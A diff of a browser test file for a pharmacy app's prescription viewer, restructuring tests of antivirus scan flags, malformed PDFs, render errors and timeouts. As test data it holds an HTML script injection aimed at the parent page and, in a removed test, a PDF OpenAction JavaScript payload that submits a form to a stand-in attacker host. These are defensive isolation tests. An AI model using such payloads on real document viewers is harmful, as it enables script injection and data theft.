@@ -4,8 +4,7 @@ import type { AddressInfo } from 'node:net';
 import type { Frame } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
 import { type CounterPage, drawnFrame, press, showOrder } from '../../support/counter/counter-page.ts';
-import { type CounterWorld, NOON, openCounterWorld } from '../../support/counter/counter-world.ts';
-import { placeOrder } from '../../support/counter/placed-orders.ts';
+import { type CounterWorld, NOON, openCounterWorld, placeOrder } from '../../support/counter/counter-world.ts';
 import { BLUE, drawnPdf, endlessPdf, PNG, RED, scannedPdf } from '../../support/counter/prescription-files.ts';
 import { forceStored, getStoredOrder } from '../../support/orders/forced-order.ts';
 import { openServer, type TestServer } from '../../support/servers/test-server.ts';
@@ -24,12 +23,6 @@ afterAll(() => world.close());
 /** Shows a new order with this document. */
 const openOrderWith = async (file: Buffer, shown = desk): Promise<CounterPage> =>
   showOrder(shown, await placeOrder(server, [file]));
-
-/** Gives the page this in place of every document, until the case is over. */
-async function replaceDocuments(body: Buffer): Promise<void> {
-  await desk.page.route('**/documents/**', (route) => route.fulfill({ body, contentType: 'text/html' }));
-  onTestFinished(() => desk.page.unrouteAll());
-}
 
 /** Returns red, green and blue in the middle of what is drawn, and whether it is wide or high. */
 const middleOf = (frame: Frame): Promise<readonly [string, string]> =>
@@ -56,31 +49,6 @@ describe('the document of a prescription', () => {
     await expect.poll(() => frame.evaluate(`document.querySelector('canvas').style.width`)).toBe('150%');
   });
 
-  it('is shown as not looked into if the check of its upload could not open it', async () => {
-    const objects =
-      '9 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/LZWDecode/Length 1>>\nstream\nx\nendstream\nendobj\n%%EOF\n';
-    const { page } = await openOrderWith(Buffer.concat([drawnPdf([BLUE]), Buffer.from(objects)]));
-    await page.getByText('Documento protegido, sin revisar.').waitFor();
-    await openOrderWith(drawnPdf([BLUE]));
-    await page.getByText('Documento protegido, sin revisar.').waitFor({ state: 'detached' });
-  });
-
-  it('says what an antivirus found in it, and is not drawn then', async () => {
-    const id = await placeOrder(server, [drawnPdf([BLUE])]);
-    const { prescriptions } = await getStoredOrder(id);
-    const scan = (scan: 'pending' | 'threat') =>
-      forceStored(id, { prescriptions: prescriptions.map((each) => ({ ...each, scan })) });
-    await scan('pending');
-    const { page } = await showOrder(desk, id);
-    await page.getByText('sin revisar todavía').waitFor();
-    await drawnFrame(page, 'página 1 de 1');
-    await scan('threat');
-    await showOrder(desk, await placeOrder(server));
-    await showOrder(desk, id);
-    await page.getByText('tiene software malicioso y no se puede abrir').waitFor();
-    expect(await page.locator('.viewer').count()).toBe(0);
-  });
-
   it('is drawn if it is a picture', async () => {
     const { page } = await openOrderWith(PNG);
     const frame = await drawnFrame(page, 'página 1 de 1');
@@ -89,38 +57,42 @@ describe('the document of a prescription', () => {
     await expect.poll(() => middleOf(frame)).toEqual(['200 30 30', 'high']);
   });
 
-  it.each([
-    ['a page of HTML', '<script>parent.document.title = "in"</script>'],
-    ['a PDF that is cut off', '%PDF-1.4\n1 0 obj<</Type/Cat'],
-  ])('says so if it cannot be drawn: %s', async (_, document) => {
-    await replaceDocuments(Buffer.from(document, 'latin1'));
-    const { page } = await openOrderWith(drawnPdf([BLUE]));
-    await page.getByRole('alert').getByText('El documento no se puede mostrar').waitFor();
-    expect(await page.title()).toMatch(/^Orden RX-\d{8} · Botica$/);
+  it('is shown as not looked into if it could not be, and is not drawn once an antivirus has found something', async () => {
+    const objects =
+      '9 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/LZWDecode/Length 1>>\nstream\nx\nendstream\nendobj\n%%EOF\n';
+    const id = await placeOrder(server, [Buffer.concat([drawnPdf([BLUE]), Buffer.from(objects)])]);
+    const { prescriptions } = await getStoredOrder(id);
+    const scan = (scan: 'pending' | 'threat') =>
+      forceStored(id, { prescriptions: prescriptions.map((each) => ({ ...each, scan })) });
+    await scan('pending');
+    const { page } = await showOrder(desk, id);
+    await page.getByText('Documento protegido, sin revisar.').waitFor();
+    await page.getByText('sin revisar todavía').waitFor();
+    await scan('threat');
+    await openOrderWith(drawnPdf([BLUE]));
+    await drawnFrame(page, 'página 1 de 1');
+    expect(await page.getByText('Documento protegido, sin revisar.').count()).toBe(0);
+    await showOrder(desk, id);
+    await page.getByText('tiene software malicioso y no se puede abrir').waitFor();
+    expect(await page.locator('.viewer').count()).toBe(0);
   });
 
-  it('is asked for again by a button, after it could not be read', async () => {
+  it('is asked for again after it could not be read, and says so if it cannot be drawn', async () => {
     const { page, takeComplaints } = desk;
+    const html = { body: '<script>parent.document.title = "in"</script>', contentType: 'text/html' };
     const json = { code: 'failed', text: 'S3 no responde.' };
+    await page.route('**/documents/**', (route) => route.fulfill(html));
     await page.route('**/documents/**', (route) => route.fulfill({ status: 500, json }), { times: 1 });
+    onTestFinished(() => page.unrouteAll());
     await openOrderWith(drawnPdf([BLUE]));
     await page.getByRole('alert').getByText('S3 no responde.').waitFor();
     await page.getByRole('button', { name: 'Intentar de nuevo' }).click();
-    expect(await middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['0 0 255', 'high']);
-    expect(await page.getByRole('alert').count()).toBe(0);
+    await page.getByRole('alert').getByText('El documento no se puede mostrar').waitFor();
+    expect(await page.title()).toMatch(/^Orden RX-\d{8} · Botica$/);
     expect(takeComplaints()).toEqual([expect.stringContaining('responded with a status of 500 ')]);
   });
 
-  it('is never blank because its scan could not be decoded', async () => {
-    const { page } = await openOrderWith(scannedPdf('CCITTFaxDecode'));
-    expect(await middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['0 0 0', 'high']);
-    await press(page, '+', 'r');
-    await expect.poll(async () => middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['0 0 0', 'wide']);
-    const undecodable = await openOrderWith(scannedPdf('JPXDecode'));
-    await undecodable.page.getByText('El documento no se puede mostrar').waitFor();
-  });
-
-  it('shows its other pages if one of them cannot be drawn', async () => {
+  it('shows its other pages if one of them cannot be decoded, and none of them blank', async () => {
     const { page } = await openOrderWith(scannedPdf('CCITTFaxDecode', 'JPXDecode'));
     const frame = await drawnFrame(page, 'página 1 de 2');
     await press(page, 'ArrowRight');
@@ -131,11 +103,16 @@ describe('the document of a prescription', () => {
     await page.getByText('Esta página no se puede mostrar').waitFor({ state: 'detached' });
   });
 
+  /** Lets the seconds pass so many times as fast in a page, from here on. */
+  const hasten = ({ page }: CounterPage, times: number): Promise<void> =>
+    page.evaluate(`window.real ??= setTimeout; window.setTimeout = (run, ms) => real(run, ms / ${times}); undefined`);
+
   it('is given up if it takes too long, while the page goes on', async () => {
-    const { page, close } = await openOrderWith(endlessPdf(), await world.open());
+    const shown = await openOrderWith(endlessPdf(), await world.open());
+    const { page, close } = shown;
     await page.getByText('Página 1 de 1').waitFor();
-    // From here on seconds pass ten times as fast in the page, which counts them anew for each drawing.
-    await page.evaluate('{ const real = setTimeout; window.setTimeout = (run, ms) => real(run, ms / 10); }');
+    // The page counts anew for each drawing.
+    await hasten(shown, 40);
     await press(page, 'r', 'x');
     await page.getByRole('dialog', { name: 'Rechazar receta' }).waitFor();
     await page.getByText('El documento no se puede mostrar').waitFor();
@@ -144,34 +121,26 @@ describe('the document of a prescription', () => {
   });
 
   it('is not given up while its tab is hidden, in which a browser draws nothing', async () => {
-    const own = await world.open();
-    const { page } = own;
-    // From here on seconds pass a hundred times as fast in the page.
-    await page.evaluate('window.real = setTimeout; window.setTimeout = (run, ms) => real(run, ms / 100);');
+    const { page } = desk;
+    await hasten(desk, 100);
     const arrived = Promise.withResolvers<void>();
     await page.route('**/viewer.js', (route) => arrived.promise.then(() => route.continue()));
+    onTestFinished(() => page.unrouteAll());
     const see = (state: string) =>
       page.evaluate(`{
         Object.defineProperty(document, 'visibilityState', { configurable: true, value: '${state}' });
         document.dispatchEvent(new Event('visibilitychange'));
       }`);
     await see('hidden');
-    await openOrderWith(drawnPdf([BLUE]), own);
+    await openOrderWith(drawnPdf([BLUE]));
     await page.evaluate('new Promise((resolve) => setTimeout(resolve, 40_000))');
     expect(await page.getByRole('alert').count()).toBe(0);
     await see('visible');
     await page.getByRole('alert').getByText('tardó demasiado').waitFor();
     arrived.resolve();
-    await page.evaluate('window.setTimeout = real');
+    await hasten(desk, 1);
     await page.getByRole('button', { name: 'Intentar de nuevo' }).click();
     await drawnFrame(page, 'página 1 de 1');
-  });
-
-  it('runs nothing of a PDF', async () => {
-    const script = '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\))>>';
-    await replaceDocuments(drawnPdf([RED], script));
-    const { page } = await openOrderWith(drawnPdf([BLUE]));
-    expect(await middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['255 0 0', 'high']);
   });
 
   it('could reach neither the page nor anybody else, whatever it ran', async () => {
